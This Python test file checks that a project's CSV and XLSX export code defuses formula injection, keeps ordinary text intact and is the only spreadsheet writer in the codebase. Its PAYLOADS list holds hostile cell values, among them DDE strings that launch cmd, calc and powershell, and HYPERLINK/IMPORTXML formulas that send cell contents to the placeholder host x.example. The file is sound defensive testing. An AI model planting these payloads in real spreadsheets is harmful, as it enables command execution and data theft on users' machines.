"""No cell of any export is a formula, and ordinary texts come back as they were."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import product
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from foundation.core.spreadsheets import DANGEROUS, csv_bytes, xlsx_bytes
from foundation.exports.declaring import Column
from tests.architecture.source import APPS

ROOT = Path(__file__).resolve().parents[2]
LEADS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u200b=",
    "\ufeff=",
    "\u00a0+",
    "\u202e@",
    "　=",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"点击")',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "SUM(1,2)*cmd|'/C powershell'!A0",
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "A1\n=B1",
    '"=1',
    ",=1+1",
    ";=1+1",
    "'=1+1",
    "ＳＵＭ（1）",
]
PAYLOADS = [lead + body for lead, body in product(LEADS, BODIES)]
ORDINARY = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"]), max_size=40
).filter(lambda text: not text.strip("\u00a0\u3000 ").startswith(DANGEROUS))


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes):
    return list(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows())


def dangerous(cell: str) -> bool:
    """By another road than the writer's: does a spreadsheet see one of the starters first?"""
    invisible = "\u200b\u200c\u200d\u2060\ufeff\u202a\u202b\u202c\u202d\u202e\u00ad \u00a0\u3000"
    return cell[:1] in DANGEROUS or cell.lstrip(invisible)[:1] in DANGEROUS


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("kind", ["text", "code"])
def test_no_payload_becomes_a_formula(kind):
    column = Column("x", "名称", lambda text: text, kind=kind)
    rows = [[column.value(payload), Decimal("-5.00")] for payload in PAYLOADS]
    read = csv_cells(csv_bytes(["名称", "金额(元)"], rows))
    assert len(read) == len(PAYLOADS) + 1
    assert [row[0] for row in read if dangerous(row[0])] == []
    assert {row[1] for row in read[1:]} == {"-5.00"}
    cells = xlsx_cells(xlsx_bytes(["名称", "金额(元)"], rows))
    assert [cell.coordinate for row in cells for cell in row if cell.data_type == "f"] == []
    assert {row[0].data_type for row in cells[1:]} == {"s"}
    assert {(row[1].data_type, row[1].value) for row in cells[1:]} == {("n", -5)}


def test_heads_titles_notes_and_footers_are_defused_too():
    notes = [("用途", payload) for payload in PAYLOADS]
    book = load_workbook(io.BytesIO(xlsx_bytes(["=1+1"], [], footer="A&B &D", notes=notes)))
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} == {"s"}
    assert csv_cells(csv_bytes(["=1+1"], []))[0] == ["'=1+1"]
    with_footer = book.worksheets[0].oddFooter.left.text
    assert with_footer == "A&&B &&D"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=30), min_size=1, max_size=8))
def test_any_text_is_harmless(texts):
    rows = [[text] for text in texts]
    assert not [row for row in csv_cells(csv_bytes(["x"], rows)) if row and dangerous(row[0])]
    assert "f" not in {cell.data_type for row in xlsx_cells(xlsx_bytes(["x"], rows)) for cell in row}


@settings(max_examples=200, deadline=None)
@given(st.lists(ORDINARY, min_size=1, max_size=8))
def test_ordinary_texts_come_back_unchanged(texts):
    rows = [[text, "尾"] for text in texts]
    assert [row[0] for row in csv_cells(csv_bytes(["x", "y"], rows))[1:]] == texts
    assert [row[0].value or "" for row in xlsx_cells(xlsx_bytes(["x", "y"], rows))[1:]] == texts


def test_money_dates_codes_and_blanks():
    at = datetime(2024, 4, 24, 1, 30, tzinfo=UTC)
    columns = [
        Column("a", "预收费", lambda row: row["fen"], kind="money"),
        Column("b", "代码", lambda row: row["code"], kind="code"),
        Column("c", "日期", lambda row: row["on"], kind="date"),
        Column("d", "时间", lambda row: row["at"], kind="date"),
        Column("e", "空", lambda row: None, kind="money"),
        Column("f", "家数", lambda row: 0, kind="number"),
    ]
    row = {"fen": -123456, "code": "000123456789012345", "on": date(2024, 4, 24), "at": at}
    values = [column.value(row) for column in columns]
    assert [column.head for column in columns[:2]] == ["预收费(元)", "代码"]
    assert csv_cells(csv_bytes(["x"], [values]))[1] == [
        "-1234.56",
        "000123456789012345",
        "2024-04-24",
        "2024-04-24 09:30",
        "",
        "0",
    ]
    cells = xlsx_cells(xlsx_bytes(["x"], [values]))[1]
    assert [cell.data_type for cell in cells] == ["n", "s", "s", "s", "n", "n"]
    assert (cells[0].value, cells[0].number_format) == (-1234.56, "#,##0.00")
    assert (cells[1].value, cells[1].number_format) == ("000123456789012345", "@")


def writers_in(source: str) -> set[str]:
    """Names of spreadsheet writers that a module uses."""
    banned = {"csv.writer", "csv.DictWriter", "openpyxl.Workbook", "openpyxl.cell.WriteOnlyCell"}
    packages = {"xlsxwriter", "xlwt", "pyexcel", "pandas", "odf"}
    found = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            found.add(f"{node.value.id}.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module:
            found |= {f"{node.module}.{alias.name}" for alias in node.names}
            found.add(node.module.split(".")[0])
        elif isinstance(node, ast.Import):
            found |= {alias.name.split(".")[0] for alias in node.names}
    return found & (banned | packages)


def test_nothing_else_writes_spreadsheets():
    roots = [app.partition(".")[0] for app in APPS if (ROOT / app.replace(".", "/")).exists()]
    files = [file for root in roots for file in (ROOT / root).rglob("*.py")]
    assert len(files) > 50
    using = {str(file.relative_to(ROOT)) for file in files if writers_in(file.read_text())}
    assert using == {"foundation/core/spreadsheets.py"}


@pytest.mark.parametrize(
    "source",
    [
        "import csv\ncsv.writer(f)",
        "from csv import DictWriter",
        "from openpyxl import Workbook",
        "import openpyxl\nopenpyxl.Workbook()",
        "import xlsxwriter",
    ],
)
def test_control_a_second_writer_is_seen(source):
    assert writers_in(source)
